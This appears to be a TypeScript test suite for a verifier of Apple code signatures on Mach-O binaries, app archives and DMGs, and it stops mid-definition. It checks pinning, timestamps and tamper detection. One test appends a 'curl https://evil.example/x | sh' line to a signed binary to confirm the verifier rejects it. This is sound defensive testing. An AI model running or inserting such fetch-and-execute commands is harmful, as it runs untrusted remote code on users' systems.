/**
 * Apple code signing (issue 12). Real files signed with Apple-issued certificates (origins in
 * fixtures/apple/ORIGIN.md): their verdicts follow their origin — the Developer ID app verifies
 * pinned by its Team ID, at its Apple timestamp (its certificate has since expired); the
 * Apple Development / Mac Developer files verify only with requireDeveloperId: false and at a time
 * their (untimestamped) certificates were valid. No Apple reference tool runs on Linux, so the
 * tampered variants are judged by construction: each changes bytes a signature covers.
 * Re-signed variants use a TEST CA mimicking Apple's structure (support/apple-sign.ts), trusted
 * only where a test passes it as `testAnchors`.
 *
 * Deliberate disagreements with Apple's own checks, each tested here: an unsigned DMG is UNSIGNED
 * even when the app inside is signed (the image content is not read); files beside the .app in
 * an archive are refused (no signature covers them); SHA-1-only CodeDirectories are refused
 * (older macOS accepts them); ad-hoc nested code is refused.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyApple } from '../../../lambda/formats/apple/verify';
import { hasTool, run, toolsAvailable } from '../../support/tools';
import { buildMachO } from '../support/macho-fixtures';
import {
  buildSuperBlob,
  cdhashOf,
  codeResources,
  codeSignatureOf,
  file,
  infoPlist,
  link,
  makeTestAppleChain,
  readSuperBlob,
  readZip,
  signCms,
  signDmg,
  signMachO,
  stripUnsignedAttributes,
  superBlobOf,
  withSuperBlob,
  wrapCms,
  writeTar,
  writeZip,
  type Member,
  type TestChain,
} from '../support/apple-sign';

const FIX = join(__dirname, '../fixtures/apple');
const DEVID_ZIP = join(FIX, 'DevSignedApp.zip');
const DEVID_TEAM = 'ZCK58M894E';
const DEVID_LEAF_SHA256 = '60c769956c1ee5bcde737d9d24f7a6fda91319112c37058cf29277a12bb034e2';
const EXE = 'DevSignedApp.app/Contents/MacOS/SignedApp';

let dir: string;
let chain: TestChain;
let n = 0;
const tmp = (name: string) => join(dir, `${n++}-${name}`);

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'apple-test-'));
  if (hasTool('openssl')) {
    const d = join(dir, 'pki');
    mkdirSync(d);
    chain = makeTestAppleChain(d, 'TESTTEAM01');
  }
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

type Pol = { teamId?: string; certSha256?: string[]; requireDeveloperId?: boolean };
const verify = (assetPath: string, pin: Pol, extra: { now?: Date; testAnchors?: unknown[] } = {}) =>
  verifyApple({ assetPath, policy: { scheme: 'apple', ...pin } as never, now: extra.now }, { testAnchors: extra.testAnchors as never });

async function rezip(edit: (members: Member[]) => void | Promise<void>, kind: 'zip' | 'tar' = 'zip'): Promise<string> {
  const members = await readZip(DEVID_ZIP);
  await edit(members);
  const out = tmp(`app.${kind}`);
  if (kind === 'zip') await writeZip(out, members);
  else await writeTar(out, members);
  return out;
}
const member = (ms: Member[], name: string) => ms.find((m) => m.name === name)!;

describe('apple: a real Developer ID app (Sparkle test data)', () => {
  it('verifies pinned by Team ID, judged at its Apple timestamp (the certificate expired 2026-02-08)', async () => {
    const r = await verify(DEVID_ZIP, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(true);
    expect(r.signer).toContain('Developer ID Application: Mayur Pawashe (ZCK58M894E)');
    expect(r.reason).toMatch(/timestamped 2023-03-12T23:28:41\.000Z by .*Timestamp Signer/);
    expect(r.reason).toContain('pinned by Team ID ZCK58M894E');
  });

  it('verifies pinned by leaf certificate SHA-256', async () => {
    const r = await verify(DEVID_ZIP, { certSha256: [DEVID_LEAF_SHA256.toUpperCase()] });
    expect(r.valid).toBe(true);
    expect(r.reason).toContain('pinned by certificate fingerprint');
  });

  it('teamId and certSha256 together: both must hold ("this team, and this certificate"), never either', async () => {
    const both = await verify(DEVID_ZIP, { teamId: DEVID_TEAM, certSha256: [DEVID_LEAF_SHA256] });
    expect(both.valid).toBe(true);
    expect(both.reason).toContain(`pinned by Team ID ${DEVID_TEAM} and certificate fingerprint`);
    const otherCert = await verify(DEVID_ZIP, { teamId: DEVID_TEAM, certSha256: ['00'.repeat(32)] });
    expect(otherCert.valid).toBe(false);
    expect(otherCert.unpinnedSigner).toBe(true);
    expect(otherCert.reason).toContain('is not the pinned signer: the pinned Team ID, but not a pinned certificate');
    const otherTeam = await verify(DEVID_ZIP, { teamId: 'ABCDE12345', certSha256: [DEVID_LEAF_SHA256] });
    expect(otherTeam.valid).toBe(false);
    expect(otherTeam.unpinnedSigner).toBe(true);
    expect(otherTeam.reason).toContain('is not the pinned signer: a pinned certificate, but not the pinned Team ID ABCDE12345');
  });

  it('another Team ID or fingerprint: SIGNER_NOT_PINNED', async () => {
    for (const pin of [{ teamId: 'ABCDE12345' }, { certSha256: ['00'.repeat(32)] }]) {
      const r = await verify(DEVID_ZIP, pin);
      expect(r.valid).toBe(false);
      expect(r.unpinnedSigner).toBe(true);
      expect(r.reason).toContain('is not the pinned signer');
    }
  });

  it('the same app as tar verifies too', async () => {
    const r = await verify(await rezip(() => {}, 'tar'), { teamId: DEVID_TEAM });
    expect(r.valid).toBe(true);
  });

  it('without its timestamp, the expired certificate is judged now: invalid', async () => {
    const p = await rezip((ms) => {
      const exe = member(ms, EXE);
      const blobs = readSuperBlob(superBlobOf(exe.data));
      const cms = blobs.find((b) => b.slot === 0x10000)!;
      cms.data = wrapCms(stripUnsignedAttributes(cms.data.subarray(8)));
      exe.data = withSuperBlob(exe.data, buildSuperBlob(blobs));
    });
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.reason).toMatch(/not valid now.*no timestamp/);
    // … and valid at a time the certificate was valid: the stripped CMS itself still verifies
    expect((await verify(p, { teamId: DEVID_TEAM }, { now: new Date('2024-01-01') })).valid).toBe(true);
  });

  it('a flipped byte in a code page: invalid, naming the page', async () => {
    const p = await rezip((ms) => {
      const exe = member(ms, EXE);
      exe.data = Buffer.from(exe.data);
      exe.data[0x4000 + 17] ^= 0x01;
    });
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.reason).toMatch(/code page 4 .*does not match.*modified after signing/);
  });

  it('an edited CodeDirectory (page hashes consistent, the identifier changed): the CMS no longer verifies', async () => {
    const p = await rezip((ms) => {
      const exe = member(ms, EXE);
      const blobs = readSuperBlob(superBlobOf(exe.data));
      const cd = Buffer.from(blobs.find((b) => b.slot === 0)!.data);
      const ident = cd.readUInt32BE(20);
      cd[ident] ^= 0x20; // first letter of the identifier, upper/lower case
      blobs.find((b) => b.slot === 0)!.data = cd;
      exe.data = withSuperBlob(exe.data, buildSuperBlob(blobs));
    });
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.reason).toMatch(/CMS signature over the CodeDirectory does not verify/);
  });

  it.skipIf(!toolsAvailable('openssl'))('re-signed with another certificate (test CA mimicking Apple): not chained to a pinned Apple root', async () => {
    const p = await rezip(async (ms) => {
      const exe = member(ms, EXE);
      const blobs = readSuperBlob(superBlobOf(exe.data));
      const cd = blobs.find((b) => b.slot === 0)!.data;
      blobs.find((b) => b.slot === 0x10000)!.data = wrapCms(await signCms(chain, [{ blob: cd, hash: 'sha256' }]));
      exe.data = withSuperBlob(exe.data, buildSuperBlob(blobs));
    });
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.unpinnedSigner).toBe(true);
    expect(r.reason).toMatch(/does not chain to a pinned Apple root/);
    // The re-signed CMS is itself sound: trusted only when the test CA is the anchor, and then
    // the CodeDirectory's Team ID (ZCK58M894E) contradicts the test leaf's.
    const t = await verify(p, { teamId: 'TESTTEAM01' }, { testAnchors: [chain.rootCert] });
    expect(t.valid).toBe(false);
    expect(t.reason).toContain('CodeDirectory team ID ZCK58M894E differs from the signer certificate');
  });

  it('the resource seal: a modified, an added and a removed resource are each refused; an omitted .DS_Store is not', async () => {
    const nib = 'DevSignedApp.app/Contents/Resources/Base.lproj/MainMenu.nib';
    const modified = await rezip((ms) => {
      member(ms, nib).data = Buffer.concat([member(ms, nib).data, Buffer.from(' ')]);
    });
    expect((await verify(modified, { teamId: DEVID_TEAM })).reason).toContain('Resources/Base.lproj/MainMenu.nib does not match its sealed SHA-256');
    const added = await rezip((ms) => {
      ms.push({ name: 'DevSignedApp.app/Contents/Resources/evil.sh', data: Buffer.from('#!/bin/sh\n'), mode: 0o100755, dir: false, symlink: false });
    });
    expect((await verify(added, { teamId: DEVID_TEAM })).reason).toContain('Resources/evil.sh is not sealed by CodeResources');
    const removed = await rezip((ms) => {
      ms.splice(
        ms.findIndex((m) => m.name === nib),
        1,
      );
    });
    expect((await verify(removed, { teamId: DEVID_TEAM })).reason).toContain('Resources/Base.lproj/MainMenu.nib is sealed by CodeResources but missing');
    const outside = await rezip((ms) => {
      ms.push({ name: 'DevSignedApp.app/README', data: Buffer.from('x'), mode: 0o100644, dir: false, symlink: false });
    });
    expect((await verify(outside, { teamId: DEVID_TEAM })).reason).toContain('lies outside Contents/');
    const dsStore = await rezip((ms) => {
      ms.push({ name: 'DevSignedApp.app/Contents/Resources/.DS_Store', data: Buffer.from('x'), mode: 0o100644, dir: false, symlink: false });
    });
    expect((await verify(dsStore, { teamId: DEVID_TEAM })).valid).toBe(true);
  });

  it('Info.plist and CodeResources are bound by the special slots', async () => {
    const info = await rezip((ms) => {
      const m = member(ms, 'DevSignedApp.app/Contents/Info.plist');
      m.data = Buffer.from(m.data.toString('utf8').replace('</dict>', '<key>X</key><string>y</string></dict>'));
    });
    expect((await verify(info, { teamId: DEVID_TEAM })).reason).toMatch(/Info\.plist \(special slot -1\).*does not match/);
    const seal = await rezip((ms) => {
      const m = member(ms, 'DevSignedApp.app/Contents/_CodeSignature/CodeResources');
      m.data = Buffer.from(m.data.toString('utf8').replace('<key>files2</key>', '<key>files2</key><!-- -->'));
    });
    expect((await verify(seal, { teamId: DEVID_TEAM })).reason).toMatch(/resources \(CodeResources\) \(special slot -3\).*does not match/);
  });

  it('the executable taken out of its bundle cannot be verified alone (its Info.plist and seal are bound)', async () => {
    const exe = member(await readZip(DEVID_ZIP), EXE);
    const p = tmp('SignedApp');
    writeFileSync(p, exe.data);
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.reason).toMatch(/Info\.plist \(special slot -1\).*not available here/);
  });

  it('a stapled ticket (Contents/CodeResources) is reported as present, not verified', async () => {
    const p = await rezip((ms) => {
      ms.push({ name: 'DevSignedApp.app/Contents/CodeResources', data: Buffer.from('ticket bytes'), mode: 0o100644, dir: false, symlink: false });
    });
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(true);
    expect(r.reason).toContain('notarization ticket is stapled (present; not verified)');
  });
});

describe('apple: random single-byte changes to the signed Developer ID executable', () => {
  it('a flip anywhere in the code or the CodeDirectory is never valid (fixed seed)', async () => {
    const members = await readZip(DEVID_ZIP);
    const exe = member(members, EXE).data;
    const { dataoff } = codeSignatureOf(exe);
    const sb = superBlobOf(exe);
    const cdAt = dataoff + sb.readUInt32BE(16); // the first index entry is the CodeDirectory (slot 0)
    const cdLen = sb.readUInt32BE(sb.readUInt32BE(16) + 4);
    let seed = 12;
    const rnd = (n: number) => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (let i = 0; i < 24; i++) {
      const at = i % 3 === 2 ? cdAt + rnd(cdLen) : rnd(dataoff);
      const p = await rezip((ms) => {
        const m = member(ms, EXE);
        m.data = Buffer.from(m.data);
        m.data[at] ^= 1 << rnd(8);
      });
      const r = await verify(p, { teamId: DEVID_TEAM });
      expect(r.valid, `flip at ${at}`).toBe(false);
    }
  });
});

describe('apple: real Apple Development / Mac Developer signatures', () => {
  const universal = join(FIX, 'yikes-universal_signed');
  it('a universal Mach-O: every slice verifies at a time its certificate was valid, with requireDeveloperId: false', async () => {
    const r = await verify(universal, { teamId: '998Z9C32TC', requireDeveloperId: false }, { now: new Date('2018-01-01') });
    expect(r.valid).toBe(true);
    expect((r.details!.units as Array<{ name: string }>).map((u) => u.name)).toEqual(['slice i386', 'slice x86_64']);
  });
  it('… is refused by default (not Developer ID) and now (expired, no timestamp)', async () => {
    const d = await verify(universal, { teamId: '998Z9C32TC' }, { now: new Date('2018-01-01') });
    expect(d.reason).toContain('not Developer ID Application (requireDeveloperId)');
    expect(d.unpinnedSigner).toBe(true);
    const now = await verify(universal, { teamId: '998Z9C32TC', requireDeveloperId: false });
    expect(now.reason).toMatch(/not valid now/);
  });
  it('… a flipped byte in the second slice is found', async () => {
    const b = Buffer.from(readFileSync(universal));
    const off = b.readUInt32BE(8 + 20 + 8); // second fat_arch's offset
    b[off + 0x1000 + 3] ^= 0xff;
    const p = tmp('universal');
    writeFileSync(p, b);
    const r = await verify(p, { teamId: '998Z9C32TC', requireDeveloperId: false }, { now: new Date('2018-01-01') });
    expect(r.valid).toBe(false);
    expect(r.reason).toMatch(/^slice x86_64: code page 1 /);
  });
  it('… bytes outside its slices (appended, or in a gap before or between slices) make it invalid, naming the offset; zero padding does not', async () => {
    const b = readFileSync(universal);
    const pol = { teamId: '998Z9C32TC', requireDeveloperId: false };
    const at = { now: new Date('2018-01-01') };
    const variant = (name: string, bytes: Buffer) => {
      const p = tmp(name);
      writeFileSync(p, bytes);
      return verify(p, pol, at);
    };
    const appended = await variant('appended', Buffer.concat([b, Buffer.from('\n#!/bin/sh\ncurl https://evil.example/x | sh\n'), Buffer.alloc(4096, 0x58)]));
    expect(appended.valid).toBe(false);
    expect(appended.reason).toContain(`bytes at offset ${b.length} follow the last slice (x86_64)`);
    // zeros beyond the last slice's alignment boundary are still bytes no signature covers
    expect((await variant('appended-zeros', Buffer.concat([b, Buffer.alloc(8192)]))).reason).toContain('follow the last slice');
    const first = b.readUInt32BE(8 + 8); // the first fat_arch's offset
    const headerGap = Buffer.from(b);
    headerGap.fill(0x41, 8 + 2 * 20, first);
    expect((await variant('header-gap', headerGap)).reason).toContain(`non-zero byte at offset ${8 + 2 * 20}, in the padding before slice i386`);
    const second = b.readUInt32BE(8 + 20 + 8);
    const between = Buffer.from(b);
    between[second - 1] = 0x90;
    expect((await variant('between', between)).reason).toContain(`non-zero byte at offset ${second - 1}, in the padding before slice x86_64`);
    // zero padding up to the last slice's alignment (2^12) is what lipo may write: still valid
    expect((await variant('padded', Buffer.concat([b, Buffer.alloc(4096 - (b.length % 4096))]))).valid).toBe(true);
  });
  it('a universal .app bundle in a zip (signapple test data)', async () => {
    const r = await verify(join(FIX, 'signapple-test-universal.zip'), { teamId: '3U8RB33R2B', requireDeveloperId: false }, { now: new Date('2021-06-01') });
    expect(r.valid).toBe(true);
    expect(r.signer).toContain('OU=3U8RB33R2B');
  });
  it('… its universal main executable with bytes appended is invalid', async () => {
    const members = await readZip(join(FIX, 'signapple-test-universal.zip'));
    const exe = member(members, 'signapple-test.app/Contents/MacOS/signapple-test');
    const size = exe.data.length;
    exe.data = Buffer.concat([exe.data, Buffer.alloc(20_000, 0x41)]);
    const out = tmp('signapple-appended.zip');
    await writeZip(out, members);
    const r = await verify(out, { teamId: '3U8RB33R2B', requireDeveloperId: false }, { now: new Date('2021-06-01') });
    expect(r.valid).toBe(false);
    expect(r.reason).toContain(`20000 bytes at offset ${size} follow the last slice`);
  });
  it('a thin Mach-O, pinned by Team ID', async () => {
    const r = await verify(join(FIX, 'signed-with-teamid'), { teamId: 'EQHXZ8M8AV', requireDeveloperId: false }, { now: new Date('2021-06-01') });
    expect(r.valid).toBe(true);
  });
});

describe('apple: unsigned and ad-hoc', () => {
  it.skipIf(!toolsAvailable('clang', 'ld64.lld-14'))('ld64.lld ad-hoc signatures and unsigned links count as unsigned', async () => {
    const d = mkdtempSync(join(dir, 'lld-'));
    const adhoc = buildMachO(d, 'int main(void) { return 0; }\n', { arch: 'arm64', linkerSign: true, output: 'adhoc' });
    const r = await verify(adhoc, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.unsigned).toBe(true);
    expect(r.reason).toMatch(/ad-hoc signature.*counts as unsigned/);
    const none = buildMachO(d, 'int main(void) { return 0; }\n', { arch: 'x86_64', linkerSign: false, output: 'none' });
    const u = await verify(none, { teamId: DEVID_TEAM });
    expect(u.unsigned).toBe(true);
    expect(u.reason).toContain('no LC_CODE_SIGNATURE');
  });
  it('a flat installer package is named as unsupported, not called unsigned', async () => {
    const p = tmp('x.pkg');
    writeFileSync(p, Buffer.concat([Buffer.from('xar!'), Buffer.alloc(60)]));
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.unsigned).toBeUndefined();
    expect(r.reason).toContain('flat installer package');
  });
  it('a file that is none of Mach-O, archive, DMG is unsigned; an archive without a .app too', async () => {
    const p = tmp('text');
    writeFileSync(p, 'hello');
    expect((await verify(p, { teamId: DEVID_TEAM })).unsigned).toBe(true);
    const z = tmp('plain.zip');
    await writeZip(z, [{ name: 'README', data: Buffer.from('x'), mode: 0o100644, dir: false, symlink: false }]);
    const r = await verify(z, { teamId: DEVID_TEAM });
    expect(r.unsigned).toBe(true);
    expect(r.reason).toContain('no .app bundle');
  });
  it('malformed signature data is invalid with a reason, never a crash', async () => {
    const p = await rezip((ms) => {
      const exe = member(ms, EXE);
      const sb = Buffer.from(superBlobOf(exe.data));
      sb.writeUInt32BE(0xffffff, 8); // blob count
      exe.data = withSuperBlob(exe.data, sb);
    });
    const r = await verify(p, { teamId: DEVID_TEAM });
    expect(r.valid).toBe(false);
    expect(r.reason).toMatch(/blob count/);
  });
});

describe.skipIf(!toolsAvailable('openssl'))('apple: DMG signatures (real unsigned image, signed in the test by a test CA mimicking Apple)', () => {
  const dmg = () => readFileSync(join(FIX, 'SparkleTestCodeSignApp.dmg'));
  const anchors = () => ({ testAnchors: [chain.rootCert] });

  it('an unsigned DMG is UNSIGNED', async () => {
    const r = await verify(join(FIX, 'SparkleTestCodeSignApp.dmg'), { teamId: DEVID_TEAM });
    expect(r.unsigned).toBe(true);
    expect(r.reason).toContain('carries no code signature of its own');
  });
  it('signed: valid with the test CA as anchor, pinned by Team ID; not with the Apple roots', async () => {
    const p = tmp('signed.dmg');
    writeFileSync(p, await signDmg(dmg(), chain));
    const r = await verify(p, { teamId: 'TESTTEAM01' }, anchors());
    expect(r.valid).toBe(true);
    expect(r.reason).toContain('pinned by Team ID TESTTEAM01');
    const apple = await verify(p, { teamId: 'TESTTEAM01' });
    expect(apple.reason).toContain('does not chain to a pinned Apple root');
    const rc = tmp('rcodesign-style.dmg');
    writeFileSync(rc, await signDmg(dmg(), chain, { hashOffsetAfterPlist: true }));
    expect((await verify(rc, { teamId: 'TESTTEAM01' }, anchors())).valid).toBe(true);
  });
  it('a flipped byte in the image, or an edited trailer, is refused', async () => {
    const signed = await signDmg(dmg(), chain);
    const a = Buffer.from(signed);
    a[1000] ^= 1;
    const pa = tmp('a.dmg');
    writeFileSync(pa, a);
    expect((await verify(pa, { teamId: 'TESTTEAM01' }, anchors())).reason).toMatch(/code page 0 .*does not match/);
    const b = Buffer.from(signed);
    b[b.length - 512 + 0x1ec + 7] ^= 1; // sector count in the koly trailer
    const pb = tmp('b.dmg');
    writeFileSync(pb, b);
    expect((await verify(pb, { teamId: 'TESTTEAM01' }, anchors())).reason).toMatch(/representation-specific data \(special slot -6\).*does not match/);
  });
  it('a stapled ticket is reported, not verified; ad-hoc is unsigned', async () => {
    const p = tmp('ticket.dmg');
    writeFileSync(p, await signDmg(dmg(), chain, { ticket: true }));
    const r = await verify(p, { teamId: 'TESTTEAM01' }, anchors());
    expect(r.valid).toBe(true);
    expect(r.reason).toContain('notarization ticket is stapled to the DMG (present; not verified)');
    const q = tmp('adhoc.dmg');
    writeFileSync(q, await signDmg(dmg(), null));
    expect((await verify(q, { teamId: 'TESTTEAM01' }, anchors())).unsigned).toBe(true);
  });
  it('alternate CodeDirectories must be bound by cdhashes attributes', async () => {
    const ok = tmp('alt.dmg');
    writeFileSync(ok, await signDmg(dmg(), chain, { alternate: true }));
    expect((await verify(ok, { teamId: 'TESTTEAM01' }, anchors())).valid).toBe(true);
    const unbound = tmp('unbound.dmg');
    writeFileSync(unbound, await signDmg(dmg(), chain, { alternate: true, cdhashes: false }));
    expect((await verify(unbound, { teamId: 'TESTTEAM01' }, anchors())).reason).toMatch(/CodeDirectory slot\(s\) 0x1000 not bound by the CMS signature/);
    // an alternate CodeDirectory edited after signing (its pages still match): its cdhash no longer does
    const signed = Buffer.from(await signDmg(dmg(), chain, { alternate: true }));
    const at = Number(signed.readBigUInt64BE(signed.length - 512 + 0x128));
    const size = Number(signed.readBigUInt64BE(signed.length - 512 + 0x130));
    const blobs = readSuperBlob(signed.subarray(at, at + size));
    const alt = Buffer.from(blobs.find((b) => b.slot === 0x1000)!.data);
    alt[alt.readUInt32BE(20)] ^= 0x20; // the identifier
    blobs.find((b) => b.slot === 0x1000)!.data = alt;
    buildSuperBlob(blobs).copy(signed, at);
    const edited = tmp('alt-edited.dmg');
    writeFileSync(edited, signed);
    expect((await verify(edited, { teamId: 'TESTTEAM01' }, anchors())).reason).toMatch(/cdhashes plist entry 1 does not match CodeDirectory slot 0x1000/);
    const sha1 = tmp('sha1.dmg');
    writeFileSync(sha1, await signDmg(dmg(), chain, { sha1Only: true }));
    expect((await verify(sha1, { teamId: 'TESTTEAM01' }, anchors())).reason).toContain('insecure digest algorithm SHA-1');
  });
  it('an Apple Development leaf is refused unless requireDeveloperId is false', async () => {
    const d = join(dir, 'dev-pki');
    mkdirSync(d);
    const dev = makeTestAppleChain(d, 'TESTTEAM02', { profile: 'dev' });
    const p = tmp('dev.dmg');
    writeFileSync(p, await signDmg(dmg(), dev));
    // the test signer writes TESTTEAM01 into the CodeDirectory: pin by fingerprint to reach the identity check
    const r = await verify(p, { certSha256: [dev.leaf.sha256] }, { testAnchors: [dev.rootCert] });
    expect(r.reason).toContain('not Developer ID Application');
    const any = await verify(p, { certSha256: [dev.leaf.sha256], requireDeveloperId: false }, { testAnchors: [dev.rootCert] });
    expect(any.reason).toContain('CodeDirectory team ID TESTTEAM01 differs');
    expect(createHash('sha256').update(dev.leaf.certDer).digest('hex')).toBe(dev.leaf.sha256);
  });
});

describe.skipIf(!toolsAvailable('openssl', 'clang', 'ld64.lld-14'))(
  'apple: a bundle with nested code (built by clang + ld64.lld, signed by a test CA mimicking Apple)',
  () => {
    const T = 'TESTTEAM01';
    let base: Buffer;
    beforeAll(() => {
      const d = mkdtempSync(join(dir, 'nested-'));
      base = readFileSync(buildMachO(d, 'int main(void) { return 7; }\n', { arch: 'arm64', linkerSign: true, output: 'base' }));
    });

    interface Parts {
      helper?: Buffer;
      fwExe?: Buffer;
      extra?: Member[];
      drop?: string;
      badRule?: boolean;
    }
    async function app(p: Parts = {}): Promise<string> {
      const fwInfo = infoPlist('Lib', 'com.example.lib');
      const fwData = Buffer.from('framework resource');
      const fwSeal = codeResources({ 'Resources/Info.plist': fwInfo, 'Resources/data.txt': fwData });
      const fwExe = p.fwExe ?? (await signMachO(base, chain, { identifier: 'com.example.lib', teamId: T, special: { 1: fwInfo, 3: fwSeal } }));
      const helper = p.helper ?? (await signMachO(base, chain, { identifier: 'com.example.helper', teamId: T }));
      const appInfo = infoPlist('Main', 'com.example.app');
      const appData = Buffer.from('app resource');
      const realFw = await signMachO(base, chain, { identifier: 'com.example.lib', teamId: T, special: { 1: fwInfo, 3: fwSeal } });
      const realHelper = await signMachO(base, chain, { identifier: 'com.example.helper', teamId: T });
      let appSeal = codeResources({
        'Resources/data.txt': appData,
        'MacOS/helper': { cdhash: cdhashOf(realHelper) },
        'Frameworks/Lib.framework': { cdhash: cdhashOf(realFw) },
      });
      if (p.badRule) appSeal = Buffer.from(appSeal.toString('utf8').replace('<key>^.*</key><true/>', '<key>^.*</key><true/>\n<key>(</key><true/>'));
      const main = await signMachO(base, chain, { identifier: 'com.example.app', teamId: T, special: { 1: appInfo, 3: appSeal } });
      const fw = 'Main.app/Contents/Frameworks/Lib.framework/';
      const members: Member[] = [
        file('Main.app/Contents/Info.plist', appInfo),
        file('Main.app/Contents/MacOS/Main', main, 0o100755),
        file('Main.app/Contents/MacOS/helper', helper, 0o100755),
        file('Main.app/Contents/Resources/data.txt', appData),
        file('Main.app/Contents/_CodeSignature/CodeResources', appSeal),
        file(`${fw}Versions/A/Lib`, fwExe, 0o100755),
        file(`${fw}Versions/A/Resources/Info.plist`, fwInfo),
        file(`${fw}Versions/A/Resources/data.txt`, fwData),
        file(`${fw}Versions/A/_CodeSignature/CodeResources`, fwSeal),
        link(`${fw}Versions/Current`, 'A'),
        link(`${fw}Lib`, 'Versions/Current/Lib'),
        link(`${fw}Resources`, 'Versions/Current/Resources'),
      ].filter((m) => m.name !== p.drop);
      members.push(...(p.extra ?? []));
      const out = tmp('nested.zip');
      await writeZip(out, members);
      return out;
    }
    const check = (path: string) => verify(path, { teamId: T }, { testAnchors: [chain.rootCert] });

    it('verifies: main executable, resources, a nested helper and a framework bound by their cdhashes', async () => {
      const r = await check(await app());
      expect(r.reason).toContain('pinned by Team ID TESTTEAM01');
      expect(r.valid).toBe(true);
      const bundle = (r.details!.bundles as Array<{ nested: Array<{ code: string }> }>)[0]!;
      expect(bundle.nested.map((x) => x.code).sort()).toEqual(['Frameworks/Lib.framework', 'MacOS/helper']);
    });
    it('a modified nested helper, or one validly re-signed (another cdhash), is refused', async () => {
      const flipped = Buffer.from(await signMachO(base, chain, { identifier: 'com.example.helper', teamId: T }));
      flipped[100] ^= 1;
      expect((await check(await app({ helper: flipped }))).reason).toMatch(/nested Main\.app\/MacOS\/helper: slice arm64: code page 0 .*does not match/);
      const other = await signMachO(base, chain, { identifier: 'com.example.other', teamId: T });
      expect((await check(await app({ helper: other }))).reason).toContain('MacOS/helper: its cdhash does not match the one sealed by CodeResources');
      expect((await check(await app({ helper: base }))).reason).toContain('nested Main.app/MacOS/helper: ad-hoc signed (nested code must be signed)');
    });
    it('a framework with a changed resource, an unsealed file, or a non-symlink beside Versions is refused', async () => {
      const fw = 'Main.app/Contents/Frameworks/Lib.framework/';
      const changed = await app({ drop: `${fw}Versions/A/Resources/data.txt`, extra: [file(`${fw}Versions/A/Resources/data.txt`, 'changed')] });
      expect((await check(changed)).reason).toMatch(/^Main\.app\/Contents\/Frameworks\/Lib\.framework: Resources\/data\.txt does not match its sealed SHA-256/);
      const added = await app({ extra: [file(`${fw}Versions/A/Resources/new.txt`, 'x')] });
      expect((await check(added)).reason).toContain('Resources/new.txt is not sealed by CodeResources');
      const beside = await app({ extra: [file(`${fw}evil`, 'x')] });
      expect((await check(beside)).reason).toContain("lies outside the framework's signed version directory");
    });
    it("the seal is read only once the signature binding it is authentic (its rules are the signer's)", async () => {
      const bad = await app({ badRule: true });
      const other = await verify(bad, { teamId: 'OTHERTEAM1' }, { testAnchors: [chain.rootCert] });
      expect(other.reason).toContain('is not the pinned signer');
      expect(other.unpinnedSigner).toBe(true);
      expect((await check(bad)).reason).toContain('is not a usable regular expression');
    });
    it('a file beside the .app in the archive is refused; __MACOSX metadata is not', async () => {
      expect((await check(await app({ extra: [file('install.sh', '#!/bin/sh\n')] }))).reason).toContain("install.sh lies outside the archive's .app bundles");
      expect((await check(await app({ extra: [file('__MACOSX/Main.app/._Main', 'x')] }))).valid).toBe(true);
    });
  },
);

describe.skipIf(!toolsAvailable('openssl', 'clang', 'ld64.lld-14', 'llvm-lipo-14'))(
  'apple: universal nested code is bound by the outer seal (slices joined by llvm-lipo, signed by a test CA mimicking Apple)',
  () => {
    // One cdhash binds one slice. A universal framework or helper must have the sealed cdhash on one
    // slice, the same identifier and team on every other, and the identifier / team its sealed
    // requirement names — being signed by the pinned signer is not enough: another framework (or an
    // older build of this one) from the same team is signed by it too.
    const T = 'TESTTEAM01';
    let d: string;
    let arm: Buffer;
    let x86: Buffer;
    let armOld: Buffer;
    beforeAll(() => {
      d = mkdtempSync(join(dir, 'fat-nested-'));
      arm = readFileSync(buildMachO(d, 'int main(void) { return 7; }\n', { arch: 'arm64', linkerSign: true, output: 'arm' }));
      x86 = readFileSync(buildMachO(d, 'int main(void) { return 7; }\n', { arch: 'x86_64', linkerSign: true, output: 'x86' }));
      armOld = readFileSync(buildMachO(d, 'int main(void) { return 6; }\n', { arch: 'arm64', linkerSign: true, output: 'arm-old' }));
    });
    const lipo = (slices: Buffer[]): Buffer => {
      const names = slices.map((b, i) => {
        const p = join(d, `slice-${n++}-${i}`);
        writeFileSync(p, b);
        return p;
      });
      const out = join(d, `fat-${n++}`);
      run('llvm-lipo-14', ['-create', ...names, '-output', out]);
      return readFileSync(out);
    };
    const fwInfo = infoPlist('Lib', 'com.example.lib');
    const fwData = Buffer.from('framework resource');
    const fwSeal = codeResources({ 'Resources/Info.plist': fwInfo, 'Resources/data.txt': fwData });
    const fwSlice = (base: Buffer, identifier = 'com.example.lib') => signMachO(base, chain, { identifier, teamId: T, special: { 1: fwInfo, 3: fwSeal } });
    const toolSlice = (base: Buffer, identifier = 'com.example.tool') => signMachO(base, chain, { identifier, teamId: T });

    interface Parts {
      fwExe?: Buffer;
      tool?: Buffer;
      fwRequirement?: string;
    }
    async function app(p: Parts = {}): Promise<string> {
      const sealedFw = await fwSlice(arm);
      const sealedTool = await toolSlice(arm);
      const fwExe = p.fwExe ?? lipo([sealedFw, await fwSlice(x86)]);
      const tool = p.tool ?? lipo([sealedTool, await toolSlice(x86)]);
      const appInfo = infoPlist('Main', 'com.example.app');
      const appSeal = codeResources({
        'MacOS/tool': { cdhash: cdhashOf(sealedTool) },
        'Frameworks/Lib.framework': {
          cdhash: cdhashOf(sealedFw),
